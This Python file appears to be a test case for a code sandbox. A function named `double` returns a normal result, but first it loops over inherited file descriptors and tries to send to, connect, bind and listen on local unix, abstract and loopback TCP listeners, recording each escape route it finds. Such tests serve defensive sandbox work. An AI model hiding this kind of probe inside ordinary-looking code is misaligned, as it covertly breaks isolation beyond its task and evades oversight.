"""Call somebody over a descriptor that the sandbox was given for its answers, or that was forgotten in it.

base: right
holds from: LIMITS
"""

import ctypes
import os
import socket
import struct

DONE = []
_honest = double
_libc = ctypes.CDLL(None, use_errno=True)


def _try(descriptor):
    local = struct.pack("H", socket.AF_UNIX)
    addresses = [
        local + LISTENERS["unix"].encode() + b"\0",
        local + b"\0" + LISTENERS["abstract"].encode(),
        local + LISTENERS["datagram"].encode() + b"\0",
        struct.pack(">HH4s8x", 0, LISTENERS["tcp"], b"\x7f\0\0\1"),
    ]
    addresses[-1] = struct.pack("H", socket.AF_INET) + addresses[-1][2:]
    said = f"{MARK} inherited".encode()
    for address in addresses:
        if descriptor > 3:  # the answers' own stream would be garbled, and that is another attack
            _libc.sendto(descriptor, said, len(said), socket.MSG_DONTWAIT, address, len(address))
        _libc.connect(descriptor, struct.pack("H14x", socket.AF_UNSPEC), 16)
        _libc.connect(descriptor, address, len(address))
        _libc.bind(descriptor, local + b"\0" + MARK.encode(), 3 + len(MARK))
        if _libc.listen(descriptor, 1) == 0:
            DONE.append(f"done:listens on descriptor {descriptor}")


def double(x):
    for descriptor in range(3, 300):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        _try(descriptor)
    return _honest(x)


def loot():
    return DONE
